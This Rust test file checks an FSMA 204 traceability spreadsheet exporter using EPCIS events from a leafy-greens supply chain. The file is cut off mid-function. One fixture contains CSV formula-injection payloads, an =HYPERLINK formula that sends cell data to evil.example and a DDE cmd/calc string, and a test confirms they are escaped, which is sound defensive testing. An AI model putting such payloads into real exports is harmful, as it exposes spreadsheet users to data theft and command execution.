//! The FSMA 204 sortable spreadsheet of a small leafy-greens chain in a tea county: harvest,
//! cooling, initial packing, two shipments (one as a pallet), receiving, an inspection that is
//! no CTE, and a salad transformation. The events are EPCIS 2.0 JSON-LD as farms and packers
//! would capture them, in the three spellings of CBV terms and both identifier syntaxes; every
//! row and column is checked as data, then as CSV and as XLSX read back with calamine.

use std::io::{Cursor, Read};

use calamine::{Data, Reader, Xlsx, open_workbook_from_rs};
use repository::fsma204::{COLUMNS, Cte, FsmaInput, SHEET_NAME, cte_of, fsma204_sheet};
use repository::sheet::{Cell, Sheet};

const FARM: &str = "祁门绿叶种植合作社";
const PACKER: &str = "徽州鲜蔬包装厂";
const DEPOT: &str = "黄山生鲜配送中心";

/// The chain, one document. The comment before each event says what it is; the log indices
/// below deliberately differ from the time order.
const CHAIN: &str = r#"{
  "@context": ["https://ref.gs1.org/standards/epcis/2.0.0/epcis-context.jsonld"],
  "type": "EPCISDocument", "schemaVersion": "2.0", "creationDate": "2026-05-05T12:00:00+08:00",
  "epcisBody": {"eventList": [
    {"type": "ObjectEvent", "eventID": "urn:uuid:6c1f0d8e-0001-4000-8000-000000000001",
     "eventTime": "2026-05-04T06:30:00+08:00", "eventTimeZoneOffset": "+08:00",
     "action": "ADD", "bizStep": "commissioning", "disposition": "active",
     "readPoint": {"id": "urn:epc:id:sgln:6901234.00001.0"},
     "bizLocation": {"id": "urn:epc:id:sgln:6901234.00001.1"},
     "quantityList": [{"epcClass": "urn:epc:class:lgtin:6901234.012345.SP0504A",
                       "quantity": 800, "uom": "KGM"}],
     "destinationList": [{"type": "location", "destination": "urn:epc:id:sgln:6901234.00002.0"}],
     "ilmd": {"gs1:productName": "菠菜 Spinach, field run",
              "cbvmda:harvestStartDate": "2026-05-04"}},

    {"type": "ObjectEvent", "eventID": "urn:uuid:6c1f0d8e-0002-4000-8000-000000000002",
     "eventTime": "2026-05-04T09:10:00+08:00", "eventTimeZoneOffset": "+08:00",
     "action": "OBSERVE", "bizStep": "other", "disposition": "in_progress",
     "readPoint": {"id": "https://id.gs1.org/414/6901234000023"},
     "quantityList": [{"epcClass": "https://id.gs1.org/01/06901234123456/10/SP0504A",
                       "quantity": 800, "uom": "KGM"}],
     "sourceList": [{"type": "location", "source": "urn:epc:id:sgln:6901234.00001.0"}],
     "sensorElementList": [{"sensorReport": [{"type": "Temperature", "value": 2.5,
                                              "uom": "CEL"}]}]},

    {"type": "TransformationEvent", "eventID": "urn:uuid:6c1f0d8e-0003-4000-8000-000000000003",
     "eventTime": "2026-05-04T11:45:00+08:00", "eventTimeZoneOffset": "+08:00",
     "bizStep": "creating_class_instance", "disposition": "active",
     "readPoint": {"id": "https://id.gs1.org/414/6901234000023"},
     "bizLocation": {"id": "urn:epc:id:sgln:6901234.00002.0"},
     "inputQuantityList": [{"epcClass": "https://id.gs1.org/01/06901234123456/10/SP0504A",
                            "quantity": 780, "uom": "KGM"}],
     "outputQuantityList": [{"epcClass": "urn:epc:class:lgtin:6901234.112345.PK0504-1",
                             "quantity": 195, "uom": "CS"}],
     "bizTransactionList": [{"type": "prodorder",
                             "bizTransaction": "urn:epcglobal:cbv:bt:6901234000023:PACK-0504-01"}],
     "ilmd": {"gs1:productName": "菠菜 Spinach, 4 kg case",
              "cbvmda:bestBeforeDate": "2026-05-14"}},

    {"type": "ObjectEvent", "eventID": "urn:uuid:6c1f0d8e-0004-4000-8000-000000000004",
     "eventTime": "2026-05-04T15:00:00+08:00", "eventTimeZoneOffset": "+08:00",
     "action": "OBSERVE", "bizStep": "https://ref.gs1.org/cbv/BizStep-shipping",
     "disposition": "in_transit",
     "readPoint": {"id": "urn:epc:id:sgln:6901234.00002.0"},
     "quantityList": [{"epcClass": "urn:epc:class:lgtin:6901234.112345.PK0504-1",
                       "quantity": 120, "uom": "CS"}],
     "bizTransactionList": [
       {"type": "desadv", "bizTransaction": "urn:epcglobal:cbv:bt:6901234000023:DA-0504-7"},
       {"type": "po", "bizTransaction": "urn:epcglobal:cbv:bt:6901234000030:PO-4711,2"}],
     "sourceList": [{"type": "owning_party", "source": "urn:epc:id:pgln:6901234.00002"},
                    {"type": "location", "source": "urn:epc:id:sgln:6901234.00002.0"}],
     "destinationList": [{"type": "owning_party", "destination": "urn:epc:id:pgln:6901234.00003"},
                         {"type": "location", "destination": "urn:epc:id:sgln:6901234.00003.0"}]},

    {"type": "AggregationEvent", "eventID": "urn:uuid:6c1f0d8e-0005-4000-8000-000000000005",
     "eventTime": "2026-05-04T15:30:00+08:00", "eventTimeZoneOffset": "+08:00",
     "parentID": "urn:epc:id:sscc:6901234.0000000001", "action": "ADD", "bizStep": "packing",
     "readPoint": {"id": "urn:epc:id:sgln:6901234.00002.0"},
     "childQuantityList": [{"epcClass": "urn:epc:class:lgtin:6901234.112345.PK0504-1",
                            "quantity": 75}]},

    {"type": "ObjectEvent", "eventID": "urn:uuid:6c1f0d8e-0006-4000-8000-000000000006",
     "eventTime": "2026-05-04T15:30:00+08:00", "eventTimeZoneOffset": "+08:00",
     "action": "OBSERVE", "bizStep": "shipping", "disposition": "in_transit",
     "epcList": ["https://id.gs1.org/00/069012340000000016"],
     "readPoint": {"id": "urn:epc:id:sgln:6901234.00002.0"},
     "bizTransactionList": [{"type": "bol",
                             "bizTransaction": "urn:epcglobal:cbv:bt:6901234000023:BOL-88"}],
     "destinationList": [{"type": "location", "destination": "urn:epc:id:sgln:6901234.00004.0"}]},

    {"type": "ObjectEvent", "eventID": "urn:uuid:6c1f0d8e-0007-4000-8000-000000000007",
     "eventTime": "2026-05-05T07:20:00+08:00", "eventTimeZoneOffset": "+08:00",
     "action": "OBSERVE", "bizStep": "https://ref.gs1.org/cbv/BizStep-receiving",
     "disposition": "in_progress",
     "readPoint": {"id": "urn:epc:id:sgln:6901234.00003.0"},
     "quantityList": [{"epcClass": "https://id.gs1.org/01/16901234123453/10/PK0504-1",
                       "quantity": 120, "uom": "CS"}],
     "bizTransactionList": [{"type": "recadv",
                             "bizTransaction": "urn:epcglobal:cbv:bt:6901234000030:RA-0505-3"}],
     "sourceList": [{"type": "location", "source": "urn:epc:id:sgln:6901234.00002.0"}]},

    {"type": "ObjectEvent", "eventID": "urn:uuid:6c1f0d8e-0008-4000-8000-000000000008",
     "eventTime": "2026-05-05T08:00:00+08:00", "eventTimeZoneOffset": "+08:00",
     "action": "OBSERVE", "bizStep": "inspecting", "disposition": "conformant",
     "readPoint": {"id": "urn:epc:id:sgln:6901234.00003.0"},
     "quantityList": [{"epcClass": "urn:epc:class:lgtin:6901234.112345.PK0504-1",
                       "quantity": 2, "uom": "CS"}]},

    {"type": "TransformationEvent", "eventID": "urn:uuid:6c1f0d8e-0009-4000-8000-000000000009",
     "eventTime": "2026-05-05T10:00:00+08:00", "eventTimeZoneOffset": "+08:00",
     "bizStep": "commissioning", "disposition": "active",
     "readPoint": {"id": "urn:epc:id:sgln:6901234.00003.5"},
     "bizLocation": {"id": "urn:epc:id:sgln:6901234.00003.0"},
     "inputQuantityList": [
       {"epcClass": "urn:epc:class:lgtin:6901234.112345.PK0504-1", "quantity": 30, "uom": "CS"},
       {"epcClass": "urn:epc:class:lgtin:6901234.012346.LT0503B", "quantity": 40, "uom": "KGM"}],
     "outputQuantityList": [{"epcClass": "urn:epc:class:lgtin:6901234.012347.SAL0505",
                             "quantity": 600}],
     "bizTransactionList": [{"type": "prodorder",
                             "bizTransaction": "urn:epcglobal:cbv:bt:6901234000030:MIX-0505-A"}],
     "ilmd": {"gs1:productName": [{"@value": "什锦沙拉 Salad mix, 200 g bag", "@language": "zh"}],
              "cbvmda:bestBeforeDate": "2026-05-09"}}
  ]}
}"#;

/// (log index, organisation) of each event of [`CHAIN`], in document order.
const STORED: [(u64, &str); 9] = [
    (10, FARM),
    (14, PACKER),
    (12, PACKER),
    (13, PACKER),
    (15, PACKER),
    (16, PACKER),
    (11, DEPOT),
    (17, DEPOT),
    (18, DEPOT),
];

fn chain_events() -> Vec<epcis::Event> {
    let parsed = epcis::parse(CHAIN.as_bytes()).unwrap();
    assert_eq!(
        parsed.validate(),
        vec![],
        "the example chain is valid EPCIS"
    );
    assert_eq!(parsed.document.events.len(), STORED.len());
    parsed.document.events
}

/// The inputs in log order, as a query by log index would return them.
fn inputs(events: &[epcis::Event]) -> Vec<FsmaInput<'_>> {
    let mut inputs: Vec<FsmaInput<'_>> = events
        .iter()
        .zip(STORED)
        .map(|(event, (log_index, organisation))| FsmaInput {
            log_index,
            event,
            organisation,
        })
        .collect();
    inputs.sort_by_key(|input| input.log_index);
    inputs
}

fn t(text: &str) -> Cell {
    Cell::text(text)
}

const FARM_GLN: &str = "https://id.gs1.org/414/6901234000016";
const FIELD: &str = "https://id.gs1.org/414/6901234000016/254/1";
const PACKHOUSE: &str = "https://id.gs1.org/414/6901234000023";
const DEPOT_GLN: &str = "https://id.gs1.org/414/6901234000030";
const MIXING_LINE: &str = "https://id.gs1.org/414/6901234000030/254/5";
const MARKET: &str = "https://id.gs1.org/414/6901234000047";
const SPINACH: &str = "https://id.gs1.org/01/06901234123456/10/SP0504A";
const CASES: &str = "https://id.gs1.org/01/16901234123453/10/PK0504-1";
const LETTUCE: &str = "https://id.gs1.org/01/06901234123463/10/LT0503B";
const SALAD: &str = "https://id.gs1.org/01/06901234123470/10/SAL0505";
const SPINACH_NAME: &str = "菠菜 Spinach, field run";
const CASE_NAME: &str = "菠菜 Spinach, 4 kg case";

fn id(n: u32) -> String {
    format!("urn:uuid:6c1f0d8e-000{n}-4000-8000-00000000000{n}")
}

#[allow(clippy::too_many_lines)]
fn expected_rows() -> Vec<Vec<Cell>> {
    vec![
        vec![
            t("Harvesting"),
            t("2026-05-04T06:30:00+08:00"),
            t("2026-05-03T22:30:00Z"),
            t(SPINACH),
            t("06901234123456"),
            t("SP0504A"),
            t(SPINACH_NAME),
            Cell::Empty,
            Cell::Number(800.0),
            t("KGM"),
            t(FARM_GLN),
            t(FIELD),
            Cell::Empty,
            t(PACKHOUSE),
            t(FARM_GLN),
            Cell::Empty,
            Cell::Empty,
            t("cbvmda:harvestStartDate: 2026-05-04"),
            t(&id(1)),
            Cell::Number(10.0),
            t(FARM),
        ],
        vec![
            t("Cooling"),
            t("2026-05-04T09:10:00+08:00"),
            t("2026-05-04T01:10:00Z"),
            t(SPINACH),
            t("06901234123456"),
            t("SP0504A"),
            t(SPINACH_NAME),
            Cell::Empty,
            Cell::Number(800.0),
            t("KGM"),
            t(PACKHOUSE),
            Cell::Empty,
            t(FARM_GLN),
            Cell::Empty,
            t(FARM_GLN),
            Cell::Empty,
            Cell::Empty,
            Cell::Empty,
            t(&id(2)),
            Cell::Number(14.0),
            t(PACKER),
        ],
        vec![
            t("Initial packing"),
            t("2026-05-04T11:45:00+08:00"),
            t("2026-05-04T03:45:00Z"),
            t(SPINACH),
            t("06901234123456"),
            t("SP0504A"),
            t(SPINACH_NAME),
            t("Input"),
            Cell::Number(780.0),
            t("KGM"),
            t(PACKHOUSE),
            Cell::Empty,
            Cell::Empty,
            Cell::Empty,
            t(FARM_GLN),
            t("Production order"),
            t("urn:epcglobal:cbv:bt:6901234000023:PACK-0504-01"),
            Cell::Empty,
            t(&id(3)),
            Cell::Number(12.0),
            t(PACKER),
        ],
        vec![
            t("Initial packing"),
            t("2026-05-04T11:45:00+08:00"),
            t("2026-05-04T03:45:00Z"),
            t(CASES),
            t("16901234123453"),
            t("PK0504-1"),
            t(CASE_NAME),
            t("Output"),
            Cell::Number(195.0),
            t("CS"),
            t(PACKHOUSE),
            Cell::Empty,
            Cell::Empty,
            Cell::Empty,
            t(PACKHOUSE),
            t("Production order"),
            t("urn:epcglobal:cbv:bt:6901234000023:PACK-0504-01"),
            t("cbvmda:bestBeforeDate: 2026-05-14"),
            t(&id(3)),
            Cell::Number(12.0),
            t(PACKER),
        ],
        vec![
            t("Shipping"),
            t("2026-05-04T15:00:00+08:00"),
            t("2026-05-04T07:00:00Z"),
            t(CASES),
            t("16901234123453"),
            t("PK0504-1"),
            t(CASE_NAME),
            Cell::Empty,
            Cell::Number(120.0),
            t("CS"),
            t(PACKHOUSE),
            Cell::Empty,
            t(PACKHOUSE),
            t(DEPOT_GLN),
            t(PACKHOUSE),
            t("Despatch advice; Purchase order"),
            t("urn:epcglobal:cbv:bt:6901234000023:DA-0504-7; \
                 urn:epcglobal:cbv:bt:6901234000030:PO-4711,2"),
            Cell::Empty,
            t(&id(4)),
            Cell::Number(13.0),
            t(PACKER),
        ],
        // The pallet: its lot comes from the AggregationEvent that packed it, and the
        // ship-from is where it was shipped, as no sourceList says otherwise.
        vec![
            t("Shipping"),
            t("2026-05-04T15:30:00+08:00"),
            t("2026-05-04T07:30:00Z"),
            t(CASES),
            t("16901234123453"),
            t("PK0504-1"),
            t(CASE_NAME),
            Cell::Empty,
            Cell::Number(75.0),
            t("EA"),
            t(PACKHOUSE),
            Cell::Empty,
            t(PACKHOUSE),
            t(MARKET),
            t(PACKHOUSE),
            t("Bill of lading"),
            t("urn:epcglobal:cbv:bt:6901234000023:BOL-88"),
            Cell::Empty,
            t(&id(6)),
            Cell::Number(16.0),
            t(PACKER),
        ],
        vec![
            t("Receiving"),
            t("2026-05-05T07:20:00+08:00"),
            t("2026-05-04T23:20:00Z"),
            t(CASES),
            t("16901234123453"),
            t("PK0504-1"),
            t(CASE_NAME),
            Cell::Empty,
            Cell::Number(120.0),
            t("CS"),
            t(DEPOT_GLN),
            Cell::Empty,
            t(PACKHOUSE),
            t(DEPOT_GLN),
            t(PACKHOUSE),
            t("Receiving advice"),
            t("urn:epcglobal:cbv:bt:6901234000030:RA-0505-3"),
            Cell::Empty,
            t(&id(7)),
            Cell::Number(11.0),
            t(DEPOT),
        ],
        vec![
            t("Transformation"),
            t("2026-05-05T10:00:00+08:00"),
            t("2026-05-05T02:00:00Z"),
            t(CASES),
            t("16901234123453"),
            t("PK0504-1"),
            t(CASE_NAME),
            t("Input"),
            Cell::Number(30.0),
            t("CS"),
            t(MIXING_LINE),
            t(DEPOT_GLN),
            Cell::Empty,
            Cell::Empty,
            t(PACKHOUSE),
            t("Production order"),
            t("urn:epcglobal:cbv:bt:6901234000030:MIX-0505-A"),
            Cell::Empty,
            t(&id(9)),
            Cell::Number(18.0),
            t(DEPOT),
        ],
        // The lettuce came from outside the export: no description, no TLC source.
        vec![
            t("Transformation"),
            t("2026-05-05T10:00:00+08:00"),
            t("2026-05-05T02:00:00Z"),
            t(LETTUCE),
            t("06901234123463"),
            t("LT0503B"),
            Cell::Empty,
            t("Input"),
            Cell::Number(40.0),
            t("KGM"),
            t(MIXING_LINE),
            t(DEPOT_GLN),
            Cell::Empty,
            Cell::Empty,
            Cell::Empty,
            t("Production order"),
            t("urn:epcglobal:cbv:bt:6901234000030:MIX-0505-A"),
            Cell::Empty,
            t(&id(9)),
            Cell::Number(18.0),
            t(DEPOT),
        ],
        vec![
            t("Transformation"),
            t("2026-05-05T10:00:00+08:00"),
            t("2026-05-05T02:00:00Z"),
            t(SALAD),
            t("06901234123470"),
            t("SAL0505"),
            t("什锦沙拉 Salad mix, 200 g bag"),
            t("Output"),
            Cell::Number(600.0),
            t("EA"),
            t(MIXING_LINE),
            t(DEPOT_GLN),
            Cell::Empty,
            Cell::Empty,
            t(MIXING_LINE),
            t("Production order"),
            t("urn:epcglobal:cbv:bt:6901234000030:MIX-0505-A"),
            t("cbvmda:bestBeforeDate: 2026-05-09"),
            t(&id(9)),
            Cell::Number(18.0),
            t(DEPOT),
        ],
    ]
}

#[test]
fn every_row_and_column_of_the_chain() {
    let events = chain_events();
    let sheet = fsma204_sheet(&inputs(&events));
    assert_eq!(sheet.name, SHEET_NAME);
    assert_eq!(sheet.headers, COLUMNS);
    let expected = expected_rows();
    for (n, (row, want)) in sheet.rows.iter().zip(&expected).enumerate() {
        for (column, (got, want)) in row.iter().zip(want).enumerate() {
            assert_eq!(
                got,
                want,
                "row {n}, column {:?}",
                COLUMNS.get(column).copied().unwrap_or("?")
            );
        }
        assert_eq!(row.len(), COLUMNS.len(), "row {n}");
    }
    assert_eq!(sheet.rows.len(), expected.len());
}

#[test]
fn rows_do_not_depend_on_the_input_order() {
    let events = chain_events();
    let mut shuffled = inputs(&events);
    shuffled.reverse();
    assert_eq!(fsma204_sheet(&shuffled), fsma204_sheet(&inputs(&events)));
}

#[test]
fn cte_of_each_event_on_its_own() {
    let events = chain_events();
    let ctes: Vec<Option<Cte>> = events.iter().map(cte_of).collect();
    assert_eq!(
        ctes,
        vec![
            Some(Cte::Harvesting),
            Some(Cte::Cooling),
            // Alone, GS1 US's initial packing event is a transformation; the sheet knows its
            // input was harvested.
            Some(Cte::Transformation),
            Some(Cte::Shipping),
            None,
            Some(Cte::Shipping),
            Some(Cte::Receiving),
            None,
            Some(Cte::Transformation),
        ]
    );
}

/// One event of a minimal document, for the rules that the chain does not exercise.
fn event(json: &str) -> epcis::Event {
    let doc = format!(
        r#"{{"@context": ["https://ref.gs1.org/standards/epcis/2.0.0/epcis-context.jsonld"],
            "type": "EPCISDocument", "schemaVersion": "2.0",
            "creationDate": "2026-05-01T00:00:00Z", "epcisBody": {{"eventList": [{json}]}}}}"#
    );
    let mut parsed = epcis::parse(doc.as_bytes()).unwrap();
    assert_eq!(parsed.problems, vec![], "{json}");
    parsed.document.events.remove(0)
}

#[test]
fn cte_rules_for_other_shapes() {
    let cases = [
        (
            r#"{"type": "ObjectEvent", "eventTime": "2026-05-01T08:00:00+08:00", "eventTimeZoneOffset": "+08:00",
                "action": "OBSERVE", "bizStep": "https://county.example/voc/BizStep-Cooling"}"#,
            Some(Cte::Cooling),
        ),
        (
            r#"{"type": "ObjectEvent", "eventTime": "2026-05-01T08:00:00+08:00", "eventTimeZoneOffset": "+08:00",
                "action": "ADD", "bizStep": "urn:county:bizstep:harvesting"}"#,
            Some(Cte::Harvesting),
        ),
        (
            r#"{"type": "ObjectEvent", "eventTime": "2026-05-01T08:00:00+08:00", "eventTimeZoneOffset": "+08:00",
                "action": "ADD", "bizStep": "creating_class_instance",
                "ilmd": {"gs1:catchZone": ["61"], "gs1:fishType": "SWORDFISH"}}"#,
            Some(Cte::FirstLandBasedReceiving),
        ),
        (
            r#"{"type": "TransformationEvent", "eventTime": "2026-05-01T08:00:00+08:00", "eventTimeZoneOffset": "+08:00",
                "bizStep": "urn:epcglobal:cbv:bizstep:packing"}"#,
            Some(Cte::InitialPacking),
        ),
        (
            r#"{"type": "ObjectEvent", "eventTime": "2026-05-01T08:00:00+08:00", "eventTimeZoneOffset": "+08:00",
                "action": "OBSERVE", "bizStep": "packing"}"#,
            Some(Cte::InitialPacking),
        ),
        (
            r#"{"type": "AggregationEvent", "eventTime": "2026-05-01T08:00:00+08:00", "eventTimeZoneOffset": "+08:00",
                "action": "OBSERVE", "parentID": "urn:epc:id:sscc:6901234.0000000001", "bizStep": "receiving"}"#,
            Some(Cte::Receiving),
        ),
        // A commissioning that adds nothing, a bizStep `other` without a temperature, a
        // delete, a missing bizStep and an error declaration are no CTE.
        (
            r#"{"type": "ObjectEvent", "eventTime": "2026-05-01T08:00:00+08:00", "eventTimeZoneOffset": "+08:00",
                "action": "OBSERVE", "bizStep": "commissioning"}"#,
            None,
        ),
        (
            r#"{"type": "ObjectEvent", "eventTime": "2026-05-01T08:00:00+08:00", "eventTimeZoneOffset": "+08:00",
                "action": "OBSERVE", "bizStep": "other"}"#,
            None,
        ),
        (
            r#"{"type": "ObjectEvent", "eventTime": "2026-05-01T08:00:00+08:00", "eventTimeZoneOffset": "+08:00",
                "action": "DELETE", "bizStep": "shipping"}"#,
            None,
        ),
        (
            r#"{"type": "ObjectEvent", "eventTime": "2026-05-01T08:00:00+08:00", "eventTimeZoneOffset": "+08:00",
                "action": "OBSERVE"}"#,
            None,
        ),
        (
            r#"{"type": "ObjectEvent", "eventTime": "2026-05-01T08:00:00+08:00", "eventTimeZoneOffset": "+08:00",
                "action": "OBSERVE", "bizStep": "shipping",
                "errorDeclaration": {"declarationTime": "2026-05-02T08:00:00+08:00", "reason": "incorrect_data"}}"#,
            None,
        ),
    ];
    for (json, want) in cases {
        assert_eq!(cte_of(&event(json)), want, "{json}");
    }
    assert_eq!(
        Cte::ALL.map(Cte::label),
        [
            "Harvesting",
            "Cooling",
            "Initial packing",
            "First land-based receiving",
            "Shipping",
            "Receiving",
            "Transformation"
        ]
    );
}

#[test]
fn serialised_items_take_their_lot_from_commissioning_ilmd() {
    let commissioning = event(
        r#"{"type": "ObjectEvent", "eventID": "urn:uuid:c0", "eventTime": "2026-05-01T08:00:00+08:00",
            "eventTimeZoneOffset": "+08:00", "action": "ADD", "bizStep": "commissioning",
            "readPoint": {"id": "urn:epc:id:sgln:6901234.00001.0"},
            "epcList": ["urn:epc:id:sgtin:6901234.012348.1001", "urn:epc:id:sgtin:6901234.012348.1002"],
            "ilmd": {"cbvmda:lotNumber": "TEA2405A", "cbvmda:descriptionShort": "黄山毛峰 Maofeng tea, 250 g tin"}}"#,
    );
    let shipping = event(
        r#"{"type": "ObjectEvent", "eventID": "urn:uuid:c1", "eventTime": "2026-05-02T08:00:00+08:00",
            "eventTimeZoneOffset": "+08:00", "action": "OBSERVE", "bizStep": "shipping",
            "readPoint": {"id": "urn:epc:id:sgln:6901234.00001.0"},
            "epcList": ["https://id.gs1.org/01/06901234123487/21/1001",
                        "urn:epc:id:sgtin:6901234.012348.1002",
                        "urn:epc:id:sgtin:6901234.012348.9999"]}"#,
    );
    let inputs = [
        FsmaInput {
            log_index: 1,
            event: &commissioning,
            organisation: FARM,
        },
        FsmaInput {
            log_index: 2,
            event: &shipping,
            organisation: FARM,
        },
    ];
    let sheet = fsma204_sheet(&inputs);
    let columns = |row: &Vec<Cell>| -> Vec<Cell> {
        // CTE, TLC, GTIN, lot, description, quantity, unit, TLC source.
        [0, 3, 4, 5, 6, 8, 9, 14]
            .iter()
            .map(|&c| row[c].clone())
            .collect()
    };
    let rows: Vec<Vec<Cell>> = sheet.rows.iter().map(columns).collect();
    let tea = "https://id.gs1.org/01/06901234123487/10/TEA2405A";
    assert_eq!(
        rows,
        vec![
            vec![
                t("Harvesting"),
                t(tea),
                t("06901234123487"),
                t("TEA2405A"),
                t("黄山毛峰 Maofeng tea, 250 g tin"),
                Cell::Number(2.0),
                t("EA"),
                t(FARM_GLN),
            ],
            vec![
                t("Shipping"),
                t(tea),
                t("06901234123487"),
                t("TEA2405A"),
                t("黄山毛峰 Maofeng tea, 250 g tin"),
                Cell::Number(2.0),
                t("EA"),
                t(FARM_GLN),
            ],
            // Tin 9999 was never commissioned here: its GTIN is known, its lot is not.
            vec![
                t("Shipping"),
                Cell::Empty,
                t("06901234123487"),
                Cell::Empty,
                Cell::Empty,
                Cell::Number(1.0),
                t("EA"),
                Cell::Empty,
            ],
        ]
    );
}

#[test]
fn error_declarations_retract_the_declared_event() {
    let receiving = r#"{"type": "ObjectEvent", "eventID": "urn:uuid:r1",
        "eventTime": "2026-05-02T08:00:00+08:00", "eventTimeZoneOffset": "+08:00",
        "action": "OBSERVE", "bizStep": "receiving",
        "quantityList": [{"epcClass": "urn:epc:class:lgtin:6901234.012345.SP0504A", "quantity": 5, "uom": "KGM"}]"#;
    let original = event(&format!("{receiving}}}"));
    let declaration = event(&format!(
        r#"{receiving}, "errorDeclaration": {{"declarationTime": "2026-05-03T08:00:00+08:00"}}}}"#
    ));
    let kept = event(
        r#"{"type": "ObjectEvent", "eventID": "urn:uuid:r2", "eventTime": "2026-05-02T09:00:00+08:00",
            "eventTimeZoneOffset": "+08:00", "action": "OBSERVE", "bizStep": "receiving"}"#,
    );
    let inputs: Vec<FsmaInput<'_>> = [&original, &declaration, &kept]
        .into_iter()
        .zip(1..)
        .map(|(event, log_index)| FsmaInput {
            log_index,
            event,
            organisation: DEPOT,
        })
        .collect();
    let sheet = fsma204_sheet(&inputs);
    // Only the event without lots is left, with one row and blank lot columns.
    assert_eq!(sheet.rows.len(), 1);
    assert_eq!(sheet.rows[0][18], t("urn:uuid:r2"));
    assert_eq!(sheet.rows[0][3], Cell::Empty);
    assert_eq!(sheet.rows[0][8], Cell::Empty);
}

#[test]
fn xml_events_with_urn_terms() {
    let xml = r#"<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" schemaVersion="2.0"
        creationDate="2026-05-05T12:00:00+08:00">
      <EPCISBody><EventList>
        <ObjectEvent>
          <eventTime>2026-05-05T07:20:00+08:00</eventTime>
          <eventTimeZoneOffset>+08:00</eventTimeZoneOffset>
          <eventID>urn:uuid:x1</eventID>
          <epcList/>
          <action>OBSERVE</action>
          <bizStep>urn:epcglobal:cbv:bizstep:receiving</bizStep>
          <readPoint><id>urn:epc:id:sgln:6901234.00003.0</id></readPoint>
          <bizTransactionList>
            <bizTransaction type="urn:epcglobal:cbv:btt:recadv">urn:epcglobal:cbv:bt:6901234000030:RA-1</bizTransaction>
          </bizTransactionList>
          <quantityList>
            <quantityElement>
              <epcClass>urn:epc:class:lgtin:6901234.112345.PK0504-1</epcClass>
              <quantity>12</quantity><uom>CS</uom>
            </quantityElement>
          </quantityList>
          <sourceList>
            <source type="urn:epcglobal:cbv:sdt:possessing_party">urn:epc:id:pgln:6901234.00002</source>
          </sourceList>
        </ObjectEvent>
      </EventList></EPCISBody>
    </epcis:EPCISDocument>"#;
    let parsed = epcis::parse(xml.as_bytes()).unwrap();
    assert_eq!(parsed.validate(), vec![]);
    let event = &parsed.document.events[0];
    assert_eq!(cte_of(event), Some(Cte::Receiving));
    let sheet = fsma204_sheet(&[FsmaInput {
        log_index: 3,
        event,
        organisation: DEPOT,
    }]);
    let row = &sheet.rows[0];
    let picked: Vec<Cell> = [0, 3, 8, 9, 10, 12, 13, 15, 16]
        .iter()
        .map(|&c| row[c].clone())
        .collect();
    assert_eq!(
        picked,
        vec![
            t("Receiving"),
            t(CASES),
            Cell::Number(12.0),
            t("CS"),
            t(DEPOT_GLN),
            t("https://id.gs1.org/417/6901234000023"),
            t(DEPOT_GLN),
            t("Receiving advice"),
            t("urn:epcglobal:cbv:bt:6901234000030:RA-1"),
        ]
    );
}

#[test]
fn nothing_in_nothing_out() {
    let sheet = fsma204_sheet(&[]);
    assert_eq!(sheet.rows, Vec::<Vec<Cell>>::new());
    assert_eq!(sheet.headers.len(), COLUMNS.len());
}

/// The CSV text of one field as [`Sheet::to_csv`] must write it.
fn csv_field(cell: &Cell) -> String {
    let text = match cell {
        Cell::Text(text) if text.starts_with(['=', '+', '-', '@', '\t', '\r']) => {
            format!("'{text}")
        }
        Cell::Text(text) => text.clone(),
        Cell::Number(number) => format!("{number}"),
        Cell::Empty => String::new(),
    };
    if text.contains([',', '"', '\r', '\n']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text
    }
}

#[test]
fn the_chain_as_csv() {
    let events = chain_events();
    let sheet = fsma204_sheet(&inputs(&events));
    let csv = String::from_utf8(sheet.to_csv()).unwrap();
    let body = csv
        .strip_prefix('\u{feff}')
        .expect("a UTF-8 byte order mark");
    let lines: Vec<&str> = body.split("\r\n").collect();
    assert_eq!(lines.len(), sheet.rows.len() + 2, "CRLF after every record");
    assert_eq!(lines.last(), Some(&""));
    assert_eq!(lines[0], COLUMNS.join(","));
    for (line, row) in lines[1..].iter().zip(&sheet.rows) {
        let want: Vec<String> = row.iter().map(csv_field).collect();
        assert_eq!(*line, want.join(","));
    }
    // The purchase order number holds a comma, so its field is quoted.
    assert!(lines[5].contains(
        ",\"urn:epcglobal:cbv:bt:6901234000023:DA-0504-7; urn:epcglobal:cbv:bt:6901234000030:PO-4711,2\","
    ));
    assert!(lines[1].starts_with("Harvesting,2026-05-04T06:30:00+08:00,2026-05-03T22:30:00Z,"));
    assert!(lines[1].contains(",800,KGM,"));
}

/// A product name and a reference number that try to run formulas in the inspector's
/// spreadsheet program.
fn hostile_sheet() -> (Sheet, epcis::Event) {
    let hostile = event(
        r#"{"type": "ObjectEvent", "eventID": "urn:uuid:h1", "eventTime": "2026-05-01T08:00:00+08:00",
            "eventTimeZoneOffset": "+08:00", "action": "ADD", "bizStep": "commissioning",
            "quantityList": [{"epcClass": "urn:epc:class:lgtin:6901234.012345.-1", "quantity": 1, "uom": "KGM"}],
            "bizTransactionList": [{"type": "po", "bizTransaction": "@SUM(1+1)*cmd|' /C calc'!A0"}],
            "ilmd": {"gs1:productName": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Spinach\")"}}"#,
    );
    let sheet = fsma204_sheet(&[FsmaInput {
        log_index: 7,
        event: &hostile,
        organisation: "+cmd",
    }]);
    (sheet, hostile)
}

#[test]
fn formula_injection_is_escaped_in_csv() {
    let (sheet, _event) = hostile_sheet();
    let csv = String::from_utf8(sheet.to_csv()).unwrap();
    let record = csv.split("\r\n").nth(1).unwrap();
    assert_eq!(
        record,
        "Harvesting,2026-05-01T08:00:00+08:00,2026-05-01T00:00:00Z,\
         https://id.gs1.org/01/06901234123456/10/-1,06901234123456,'-1,\
         \"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Spinach\"\")\",,1,KGM,,,,,,\
         Purchase order,'@SUM(1+1)*cmd|' /C calc'!A0,,urn:uuid:h1,7,'+cmd"
    );
}

/// The cells of the first worksheet of an XLSX file, read back with calamine.
fn read_xlsx(bytes: &[u8]) -> (Vec<String>, Vec<Vec<Data>>) {
    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes.to_vec())).unwrap();
    assert_eq!(workbook.sheet_names(), vec![SHEET_NAME.to_owned()]);
    let range = workbook.worksheet_range(SHEET_NAME).unwrap();
    assert_eq!(range.start(), Some((0, 0)));
    let rows: Vec<Vec<Data>> = range.rows().map(<[Data]>::to_vec).collect();
    let headers = rows[0]
